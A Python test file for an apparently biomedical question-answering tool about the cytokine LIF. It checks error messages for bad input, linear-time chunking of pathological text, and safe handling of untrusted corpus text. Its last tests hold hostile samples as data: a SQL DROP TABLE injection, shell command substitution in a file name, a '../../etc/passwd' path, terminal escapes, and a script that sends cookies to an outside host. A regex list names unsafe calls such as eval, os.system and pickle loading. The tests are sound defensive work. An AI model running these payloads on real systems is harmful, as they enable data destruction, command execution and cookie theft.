"""Bad input of every kind gets one clear message (what, where, how to fix), never a traceback.

Each case pins the exact message a user sees. The command-line cases run in fresh
subprocesses (a driver running many command lines, and a few through ``python -m
lifqa.cli``); a crash, a signal or a traceback in any of them fails its test. Pathological text (a million identical
lines, a line of dots, a 50 MB file) must be normalised and chunked in linear time.
"""

from __future__ import annotations

import ast
import inspect
import json
import os
import re
import subprocess
import sys
import textwrap
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import bm25s
import numpy as np
import pytest

import lifqa
from lifqa.chunking import chunk_document, split_sentences
from lifqa.errors import CorpusError, InputError, SettingsError
from lifqa.index.build import build_index
from lifqa.readers.text import make_document, normalise
from lifqa.render import answer_text
from lifqa.settings import make_settings
from lifqa.sources import read_sources

pytestmark = pytest.mark.slow  # time and memory bounds on large inputs

ROOT = Path(__file__).resolve().parent.parent
QUESTION = "Which subunit does LIF share with IL-6?"
LONG_QUESTION = ((QUESTION + " ") * 500)[:-1] + "?"  # exactly 20,000 characters
EMPTY = 'error: the question is empty. Type a question, e.g. lifqa ask "Which receptor does LIF bind?"'
NO_WORDS = "error: the question '?!?...' has no letters or digits to search for. Ask in words, e.g. \"What is LIF?\""
TRUNCATED = "The question was 20,000 characters long; only the first 2,000 were used."


CLI_CASES = [
    "question empty", "question whitespace", "question control characters only", "question punctuation only",
    "question 20,000 characters", "search punctuation only", "k zero", "k too large", "k not a number", "unknown mode",
    "unknown fusion", "unknown tier", "unknown option", "chunk size too small", "chunk size too large", "overlap not below size",
    "corpus missing", "corpus empty folder", "corpus only an empty file", "corpus only a binary file", "metadata path escapes",
    "metadata malformed toml", "metadata malformed json", "metadata not utf-8", "metadata file missing", "index path is a file",
    "status without index",
]


@dataclass(frozen=True)
class Case:
    """One command line, the exit code it must give, and a line its stderr must hold exactly."""

    argv: tuple[str, ...]
    code: int
    stderr_line: str
    stdout_has: str = ""


@dataclass(frozen=True)
class Result:
    code: int | None  # None: an exception escaped lifqa.cli.main
    stdout: str
    stderr: str


def _start(argv: tuple[str, ...]) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "lifqa.cli", *argv], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, env={**os.environ, "PYTHONIOENCODING": "utf-8"})


def _messy_folder(base: Path, name: str, files: dict[str, str | bytes]) -> Path:
    folder = base / name
    folder.mkdir()
    for rel, content in files.items():
        path = folder / rel
        path.write_bytes(content) if isinstance(content, bytes) else path.write_text(content, encoding="utf-8")
    return folder


def _cases(tmp: Path, index: Path) -> dict[str, Case]:
    good = _messy_folder(tmp, "good", {"a.txt": "LIF binds gp130."})
    empty = _messy_folder(tmp, "empty", {})
    empty_file = _messy_folder(tmp, "empty_file", {"empty.txt": ""})
    binary = _messy_folder(tmp, "binary", {"data.txt": bytes(range(256)) * 64})
    escape = _messy_folder(tmp, "escape", {"a.txt": "LIF.", "sources.toml": '["../../etc/passwd"]\ntitle = "x"\n'})
    bad_toml = _messy_folder(tmp, "bad_toml", {"a.txt": "LIF.", "sources.toml": '["a.txt"]\ntitle = "unterminated\n'})
    bad_json = _messy_folder(tmp, "bad_json", {"a.txt": "LIF.", "sources.json": '{\n  "a.txt": {"title": "x",}\n}\n'})
    latin_toml = _messy_folder(tmp, "latin_toml", {"a.txt": "LIF.", "sources.toml": b'["a.txt"]\ntitle = "Caf\xe9"\n'})
    new_index = str(tmp / "new-index")
    return {
        # questions: rejected before the engine starts, so no index is needed
        "question empty": Case(("ask", "", "--index", new_index), 2, EMPTY),
        "question whitespace": Case(("ask", " \t  \n", "--index", new_index), 2, EMPTY),
        "question control characters only": Case(("ask", "\x01\x02\x7f", "--index", new_index), 2, EMPTY),
        "question punctuation only": Case(("ask", "?!?...", "--index", new_index), 2, NO_WORDS),
        "question 20,000 characters": Case(("ask", "\x07" + LONG_QUESTION, "--index", str(index)), 0, "",
                                           f"note: Removed 1 invisible control character from the question.\nnote: {TRUNCATED}"),
        "search punctuation only": Case(("search", "?!?...", "--index", new_index), 2, NO_WORDS),
        # settings and options
        "k zero": Case(("ask", QUESTION, "--k", "0", "--index", new_index), 2, "error: k=0 is out of range: use a whole number from 1 to 100"),
        "k too large": Case(("ask", QUESTION, "--k", "101", "--index", new_index), 2, "error: k=101 is out of range: use a whole number from 1 to 100"),
        "k not a number": Case(("ask", QUESTION, "--k", "five"), 2, "lifqa ask: error: argument --k: invalid int value: 'five'"),
        "unknown mode": Case(("ask", QUESTION, "--mode", "magic", "--index", new_index), 2,
                             "error: unknown mode 'magic'. Valid modes: bm25, dense, hybrid, hybrid+rerank"),
        "unknown fusion": Case(("ask", QUESTION, "--fusion", "average", "--index", str(index)), 2,
                               "error: invalid settings: setting 'fusion' = 'average' is not valid: use 'minmax', 'zscore' or 'rrf'"),
        "unknown tier": Case(("ask", QUESTION, "--min-tier", "gold", "--index", str(index)), 2,
                             "error: unknown tier 'gold'. Valid tiers: high, medium, low"),
        "unknown option": Case(("index", "--corpus", str(good), "--index", new_index, "--colour", "red"), 2,
                               "lifqa: error: unrecognized arguments: --colour red"),
        "chunk size too small": Case(("index", "--corpus", str(good), "--index", new_index, "--chunk-size", "5"), 2,
                                     "error: invalid settings: setting 'chunk_size' = 5 is out of range: use a value from 100 to 20000"),
        "chunk size too large": Case(("index", "--corpus", str(good), "--index", new_index, "--chunk-size", "50000"), 2,
                                     "error: invalid settings: setting 'chunk_size' = 50000 is out of range: use a value from 100 to 20000"),
        "overlap not below size": Case(("index", "--corpus", str(good), "--index", new_index, "--chunk-size", "100", "--chunk-overlap", "200"), 2,
                                       "error: invalid settings: chunk_overlap (200) must be smaller than chunk_size (100)"),
        # corpus
        "corpus missing": Case(("index", "--corpus", str(tmp / "nowhere"), "--index", new_index), 1,
                               f"error: corpus not found: {tmp / 'nowhere'}. Give a folder of .txt/.md/.html/.pdf/.xml files or a BEIR corpus.jsonl."),
        "corpus empty folder": Case(("index", "--corpus", str(empty), "--index", new_index), 1,
                                    f"error: no readable documents in {empty}. Put .txt, .md, .html, .pdf or JATS/PubMed .xml files there (or pass a BEIR corpus.jsonl)."),
        "corpus only an empty file": Case(("index", "--corpus", str(empty_file), "--index", new_index), 1,
                                          f"error: no readable documents in {empty_file}. Put .txt, .md, .html, .pdf or JATS/PubMed .xml files there "
                                          "(or pass a BEIR corpus.jsonl). Warnings: skipped empty.txt: the file is empty"),
        "corpus only a binary file": Case(("index", "--corpus", str(binary), "--index", new_index), 1,
                                          f"error: no readable documents in {binary}. Put .txt, .md, .html, .pdf or JATS/PubMed .xml files there (or pass a BEIR "
                                          "corpus.jsonl). Warnings: skipped data.txt: it looks like a binary file, not text (convert it to .txt/.md/.html first)"),
        "metadata path escapes": Case(("index", "--corpus", str(escape), "--index", new_index), 1,
                                      f"error: {escape}/sources.toml line 1: '../../etc/passwd' points outside the corpus folder; "
                                      f"metadata keys must be file names inside {escape}"),
        "metadata malformed toml": Case(("index", "--corpus", str(bad_toml), "--index", new_index), 1,
                                        f"error: malformed metadata file {bad_toml}/sources.toml: Illegal character '\\n' (at line 2, column 22). "
                                        "Fix that line and run the command again."),
        "metadata malformed json": Case(("index", "--corpus", str(bad_json), "--index", new_index), 1,
                                        f"error: malformed metadata file {bad_json}/sources.json: Expecting property name enclosed in double quotes: "
                                        "line 2 column 26 (char 27). Fix that line and run the command again."),
        "metadata not utf-8": Case(("index", "--corpus", str(latin_toml), "--index", new_index), 1,
                                   f"error: metadata file {latin_toml}/sources.toml line 2 is not UTF-8 text. Save the file as UTF-8 and run the command again."),
        "metadata file missing": Case(("index", "--corpus", str(good), "--metadata", str(tmp / "none.toml"), "--index", new_index), 1,
                                      f"error: metadata file {tmp / 'none.toml'} does not exist. Give an existing sources.toml or sources.json, or leave --metadata out."),
        "index path is a file": Case(("index", "--corpus", str(good), "--index", str(good / "a.txt")), 2,
                                     f"error: the index folder {good / 'a.txt'} is a file. Give a folder for the index, e.g. --index indexes"),
        "status without index": Case(("status", "--corpus", str(good), "--index", new_index), 1,
                                     f"error: no index in {new_index}. Build it with: lifqa index --corpus CORPUS_DIR --index {new_index}"),
    }


# Runs many command lines in one fresh interpreter (one import of lifqa instead of thirty): each
# goes through lifqa.cli.main with its own stdout/stderr, SystemExit is an exit code, and any
# other exception escaping main is written out as the traceback a user would see.
_DRIVER = """
import contextlib, io, json, sys, traceback
from lifqa.cli import main
results = {}
for name, argv in json.load(open(sys.argv[1], encoding="utf-8")):
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(argv)
        except SystemExit as exc:
            code = exc.code
        except BaseException:
            traceback.print_exc()
            code = None
    results[name] = [code, out.getvalue(), err.getvalue()]
print(json.dumps(results))
"""
# These also run through the real entry point, `python -m lifqa.cli`, each in its own process.
ENTRY_POINT_CASES = ("question empty", "corpus empty folder", "unknown option")


@pytest.fixture(scope="module")
def cli_runs(tmp_path_factory: pytest.TempPathFactory, lif_index: Path) -> dict[str, tuple[Case, Result]]:
    """Every CLI case through the driver, and a few through ``python -m lifqa.cli``, all started at once."""
    tmp = tmp_path_factory.mktemp("cli-cases")
    cases = _cases(tmp, lif_index)
    assert sorted(cases) == sorted(CLI_CASES)
    listing = tmp / "cases.json"
    listing.write_text(json.dumps([[name, list(case.argv)] for name, case in cases.items() if name not in ENTRY_POINT_CASES]), encoding="utf-8")
    driver = subprocess.Popen([sys.executable, "-c", _DRIVER, str(listing)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    entry = {name: _start(cases[name].argv) for name in ENTRY_POINT_CASES}
    out, err = driver.communicate(timeout=600)
    assert driver.returncode == 0, err  # a crash (even a segfault) of any case ends the driver
    runs = {name: (cases[name], Result(code, stdout, stderr)) for name, (code, stdout, stderr) in json.loads(out).items()}
    for name, proc in entry.items():
        stdout, stderr = proc.communicate(timeout=600)
        runs[name] = (cases[name], Result(proc.returncode, stdout, stderr))
    return runs


@pytest.mark.parametrize("name", CLI_CASES)
def test_cli_gives_the_exact_message_and_exit_code_never_a_traceback(cli_runs, name):
    case, result = cli_runs[name]
    assert "Traceback" not in result.stderr, result.stderr
    assert result.code == case.code, (result.code, result.stderr)  # a negative code would be a signal (a segfault)
    if case.stderr_line:
        assert case.stderr_line in result.stderr.splitlines(), result.stderr
    assert case.stdout_has in result.stdout


def test_long_question_via_cli_is_still_answered(cli_runs):
    _, result = cli_runs["question 20,000 characters"]
    assert result.code == 0 and "Sources:" in result.stdout and "gp130" in result.stdout.lower()


# ---- questions through the Python API ------------------------------------------------

@pytest.mark.parametrize("question, message", [
    ("", EMPTY),
    (" \t\n  ", EMPTY),
    ("\x00\x01\x1b\x7f", EMPTY),
    ("?!?...", NO_WORDS),
    (None, "error: the question must be text, not NoneType"),
    (42, "error: the question must be text, not int"),
])
def test_bad_questions_are_rejected_with_the_exact_message(engine, question, message):
    with pytest.raises(InputError) as caught:
        engine.ask(question)
    assert f"error: {caught.value}" == message


def test_20000_character_question_is_truncated_with_a_notice_and_answered(engine):
    assert len(LONG_QUESTION) == 20_000
    answer = engine.ask(LONG_QUESTION)
    assert answer.notices == (TRUNCATED,)
    assert len(answer.question) == engine.settings.max_question_chars == 2000
    assert not answer.abstained and "gp130" in answer.answer.lower()


def test_control_characters_are_removed_with_a_notice_and_do_not_change_the_answer(engine):
    noisy = engine.ask("Which subunit\x07 does LIF\u202e share with IL-6?\x00")
    clean = engine.ask(QUESTION)
    assert noisy.notices == ("Removed 3 invisible control characters from the question.",)
    assert noisy.question == QUESTION and noisy.answer == clean.answer
    assert [c.chunk_id for c in noisy.citations] == [c.chunk_id for c in clean.citations]


@pytest.mark.parametrize("question", [
    "Какой рецептор связывает LIF?",
    "白血病抑制因子与哪个受体结合？",
    "ما هو المستقبل الذي يرتبط به LIF؟",
    "Ποιος υποδοχέας δεσμεύει τον LIF;",
    "LIFはどの受容体に結合しますか？",
    "एलआईएफ किस रिसेप्टर से जुड़ता है?",
    "🧬🔬 LIF gp130?",
    "ﷺ ﷽ ǅ ﬁ Ⅻ ①",  # compatibility characters that NFKC expands
])
def test_non_latin_questions_are_answered_or_abstain_without_error(engine, question):
    answer = engine.ask(question)
    assert answer.citations  # the closest passages are shown either way
    by_key = {c.key: c for c in answer.citations}
    for sentence in answer.sentences:  # whatever is answered is verbatim
        assert all(sentence.text in by_key[key].text for key in sentence.citation_keys)
    assert answer.abstained == (not answer.sentences)


# ---- settings through the Python API ----------------------------------------------------

@pytest.mark.parametrize("overrides, message", [
    ({"colour": "red"}, "invalid settings: unknown setting 'colour'. Valid settings: "),
    ({"k": 0}, "invalid settings: setting 'k' = 0 is out of range: use a value from 1 to 100"),
    ({"k": 1000}, "invalid settings: setting 'k' = 1000 is out of range: use a value from 1 to 100"),
    ({"candidate_k": 0}, "invalid settings: setting 'candidate_k' = 0 is out of range: use a value from 1 to 2000"),
])
def test_bad_query_settings_are_rejected_with_the_valid_range(lif_index, overrides, message):
    with pytest.raises(SettingsError) as caught:
        lifqa.open(str(lif_index), **overrides)
    assert str(caught.value).startswith(message)


@pytest.mark.parametrize("values, message", [
    ({"chunk_size": 99}, "invalid settings: setting 'chunk_size' = 99 is out of range: use a value from 100 to 20000"),
    ({"chunk_size": 20001}, "invalid settings: setting 'chunk_size' = 20001 is out of range: use a value from 100 to 20000"),
    ({"chunk_size": 300, "chunk_overlap": 300}, "invalid settings: chunk_overlap (300) must be smaller than chunk_size (300)"),
    ({"chunk_overlap": -1}, "invalid settings: setting 'chunk_overlap' = -1 is out of range: use a value from 0 to 5000"),
])
def test_bad_index_settings_are_rejected_with_the_valid_range(values, message):
    with pytest.raises(SettingsError) as caught:
        make_settings(**values)
    assert str(caught.value) == message


def test_k_out_of_range_per_call_names_the_range(engine):
    with pytest.raises(InputError, match=r"^k=101 is out of range: use a whole number from 1 to 100$"):
        engine.ask(QUESTION, k=101)


# ---- a messy corpus is indexed, with one warning per problem ------------------------------

def test_messy_corpus_is_indexed_with_exact_warnings(tmp_path: Path):
    lif = "Leukemia inhibitory factor binds the receptor subunit gp130. It maintains mouse embryonic stem cells."
    folder = _messy_folder(tmp_path, "corpus", {
        "a.txt": lif,
        "b.txt": lif,  # same content, another name
        "latin.txt": "Caf\xe9 au lait spots are not related to LIF signalling.".encode("latin-1"),
        "empty.txt": "",
        "blank.md": "  \n\n\t\n",
        "data.txt": bytes(range(256)) * 64,
        "sources.toml": textwrap.dedent("""\
            ["a.txt"]
            title = "LIF note"

            ["missing.txt"]
            title = "Not here"
        """),
    })
    result = build_index(folder, tmp_path / "index", make_settings(sentence_vectors=False))
    assert sorted(result.warnings) == sorted([
        "skipped blank.md: the file is empty",
        "skipped data.txt: it looks like a binary file, not text (convert it to .txt/.md/.html first)",
        "skipped empty.txt: the file is empty",
        "latin.txt is not valid UTF-8; decoded it as cp1252",
        f"metadata names 'missing.txt' (line 4), which is not in {folder}; that entry is ignored",
        "b.txt has the same content as a.txt; indexed once as 'a'",
    ])
    engine = lifqa.open(str(tmp_path / "index"))
    assert sorted(s.document.doc_id for s in engine.sources()) == ["a", "latin"]
    assert engine.source("a").document.also_named == ("b.txt",)
    assert engine.source("latin").document.text.startswith("Café au lait")


def test_beir_corpus_with_bad_lines_keeps_the_good_ones(tmp_path: Path):
    path = tmp_path / "corpus.jsonl"
    path.write_text('{"_id": "d1", "text": "LIF binds LIFR."}\n{"_id": "d2", "text": \n{"text": "no id"}\n', encoding="utf-8")
    report = read_sources(path)
    assert [d.doc_id for d in report.documents] == ["d1"]
    assert report.warnings[0].startswith("corpus.jsonl line 2: skipped, not a BEIR record with _id and text (")
    assert report.warnings[1] == "corpus.jsonl line 3: skipped, not a BEIR record with _id and text ('_id')"


def test_corpus_that_is_a_plain_file_is_refused(tmp_path: Path):
    path = tmp_path / "notes.txt"
    path.write_text("LIF.", encoding="utf-8")
    with pytest.raises(CorpusError) as caught:
        read_sources(path)
    assert str(caught.value) == f"{path} is a file but not a BEIR corpus.jsonl; give a folder of documents or a .jsonl file."


# ---- linear time on pathological text ------------------------------------------------------

def _within(seconds: float, work: Callable[[], object]) -> object:
    started = time.perf_counter()
    out = work()
    took = time.perf_counter() - started
    assert took < seconds, f"took {took:.1f} s; the budget is {seconds} s (quadratic behaviour?)"
    return out


def _normalise_and_chunk(raw: str):
    doc = make_document("x.txt", raw)
    return doc, chunk_document(doc, 700, 150)


# Each input took minutes (or made one giant chunk) before the splitter and the repeated-block
# remover were made linear; now each takes well under a second.
PATHOLOGICAL = {
    "a million identical lines": "LIF binds gp130.\n" * 1_000_000,
    "identical lines between blank lines": "LIF binds gp130 on stem cells.\n\n" * 200_000,
    "one-letter lines between blank runs": ("a" + "\n" * 20 + "b" + "\n" * 20) * 20_000,
    "a line of 100,000 dots": "." * 100_000,
    "100,000 letters before a digit and a full stop": "x" * 100_000 + "1. Next sentence here.",
    "100,000 unclosed tag openings": "<b " * 100_000,
    "a run of 50,000 headings": "".join(f"# Heading {i}\n" for i in range(50_000)),
    "a single 2 MB line without spaces": "y" * 2_000_000,
}


@pytest.mark.parametrize("name", list(PATHOLOGICAL))
def test_pathological_text_is_normalised_and_chunked_in_linear_time(name):
    doc, chunks = _within(15, lambda: _normalise_and_chunk(PATHOLOGICAL[name]))
    for chunk in chunks:
        assert doc.text[chunk.char_start:chunk.char_end] == chunk.text
        assert len(chunk.text) <= 4 * 700 + 700  # no giant chunk, whatever the input


def test_a_million_identical_lines_keep_one_copy():
    normalised = normalise("LIF binds gp130.\n" * 1_000_000)
    assert normalised.text == "LIF binds gp130." and len(normalised.noise) == 999_999


def test_sentence_splitting_is_linear_on_a_line_of_dots():
    sentences = _within(5, lambda: split_sentences("." * 100_000 + " Then a sentence."))
    assert sentences[-1].text == "Then a sentence."


def _big_text(megabytes: int) -> str:
    """Distinct lines of corpus-like prose, with blank lines between paragraphs."""
    words = "leukemia inhibitory factor binds gp130 and LIFR to activate JAK STAT3 signalling in embryonic stem cells".split()
    lines, size, i = [], 0, 0
    while size < megabytes * 1_000_000:
        line = " ".join(words[(i * 7 + j) % len(words)] for j in range(12 + i % 9)).capitalize() + f" in sample {i}."
        lines.append(line + ("\n\n" if i % 5 == 4 else " "))
        size += len(lines[-1])
        i += 1
    return "".join(lines)


# The child's own peak memory: on Linux ru_maxrss survives fork and exec, so a child of a large pytest process would
# report the parent's peak; VmHWM belongs to the child's own address space.
_MEASURE_50MB = """
import json, resource, sys, time
from lifqa.sources import read_sources
from lifqa.chunking import chunk_document

def peak_mb():
    try:
        with open("/proc/self/status") as status:
            return next(int(line.split()[1]) for line in status if line.startswith("VmHWM:")) / 1024
    except (OSError, StopIteration):
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024

started = time.perf_counter()
report = read_sources(sys.argv[1])
chunks = [c for d in report.documents for c in chunk_document(d, 700, 150)]
print(json.dumps({"seconds": time.perf_counter() - started, "chunks": len(chunks), "documents": len(report.documents),
                  "text": sum(len(d.text) for d in report.documents), "max_rss_mb": peak_mb()}))
"""


def test_a_50_mb_file_is_read_and_chunked_in_bounded_time_and_memory(tmp_path: Path):
    """Normalise and chunk only (fast); bench/load.py --big-file times the full index build."""
    (tmp_path / "big.txt").write_text(_big_text(50), encoding="utf-8")
    run = subprocess.run([sys.executable, "-c", _MEASURE_50MB, str(tmp_path)], capture_output=True, text=True, timeout=600)
    assert run.returncode == 0, run.stderr
    figures = json.loads(run.stdout)
    assert figures["documents"] == 1 and figures["text"] > 49_000_000 and figures["chunks"] > 50_000
    assert figures["seconds"] < 120, figures
    assert figures["max_rss_mb"] < 2500, figures  # about 17x the file: text, lines, sentences and chunks


# ---- untrusted text: never unpickled, never SQL, never run --------------------------------

PACKAGE_SOURCES = sorted((ROOT / "lifqa").rglob("*.py")) + [ROOT / "app.py"]
UNSAFE = {
    "pickle.load": r"\bpickle\.loads?\(|\bimport pickle\b|cPickle",
    "joblib.load": r"\bjoblib\.load\(",
    "allow_pickle=True": r"allow_pickle\s*=\s*True",
    "torch.load": r"\btorch\.load\(",
    "yaml.load": r"\byaml\.(unsafe_)?load\(",
    "eval/exec": r"(?<![\w.])(eval|exec)\(",
    "shell": r"\bos\.(system|popen)\(|shell\s*=\s*True|\bsubprocess\b",
    "marshal": r"\bmarshal\.loads?\(",
}


@pytest.mark.parametrize("what", list(UNSAFE))
def test_package_never_unpickles_or_runs_text(what):
    pattern = re.compile(UNSAFE[what])
    hits = [f"{path.relative_to(ROOT)}:{n}" for path in PACKAGE_SOURCES if path.is_file()
            for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if pattern.search(line)]
    assert hits == []


def test_index_loaders_refuse_pickles_by_default():
    assert inspect.signature(bm25s.BM25.load).parameters["allow_pickle"].default is False
    assert inspect.signature(np.load).parameters["allow_pickle"].default is False


def test_sql_is_parameterised_only():
    """Every execute/executemany/executescript gets a constant SQL string; values go in parameters."""
    calls = []
    for path in PACKAGE_SOURCES:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        constants = {t.id for node in tree.body if isinstance(node, ast.Assign) and isinstance(node.value, ast.Constant)
                     and isinstance(node.value.value, str) for t in node.targets if isinstance(t, ast.Name)}
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in {"execute", "executemany", "executescript"}:
                sql = node.args[0] if node.args else None
                constant = isinstance(sql, ast.Constant) and isinstance(sql.value, str)
                calls.append((f"{path.name}:{node.lineno}", constant or (isinstance(sql, ast.Name) and sql.id in constants)))
    assert calls and [where for where, ok in calls if not ok] == []


def test_hostile_corpus_text_is_stored_verbatim_and_stays_inert(tmp_path: Path):
    marker = tmp_path / "pwned"
    sql = "Robert'); DROP TABLE documents; -- LIF binds gp130 in this record."
    shell = f"The sample $(touch {marker}) and `touch {marker}` were stored with LIF at 4 °C."
    folder = _messy_folder(tmp_path, "corpus", {
        "sql.txt": sql,
        f"$(touch {marker.name}).txt": shell,
        "escapes.txt": "LIF\x1b[2J\x1b[31m signals \x9b2J through\u202e gp130 and LIFR.",
        "script.md": "# LIF page\n\n<p>LIF is a cytokine.</p><script>fetch('http://x/?c='+document.cookie)</script>",
    })
    build_index(folder, tmp_path / "index", make_settings(sentence_vectors=False))
    engine = lifqa.open(str(tmp_path / "index"))
    texts = {s.document.doc_id: s.document.text for s in engine.sources()}
    assert texts["sql"] == sql and texts[f"$(touch {marker.name})"] == shell
    assert texts["escapes"] == "LIF[2J[31m signals 2J through gp130 and LIFR."  # escape characters removed, text kept
    assert "fetch" not in texts["script"] and "LIF is a cytokine." in texts["script"]
    assert not marker.exists()
    shown = answer_text(engine.ask("Which record mentions DROP TABLE documents and gp130?"))
    assert not any(ch in shown for ch in "\x1b\x9b\u202e")
    assert len(engine.sources()) == 4  # the documents table survived its own contents
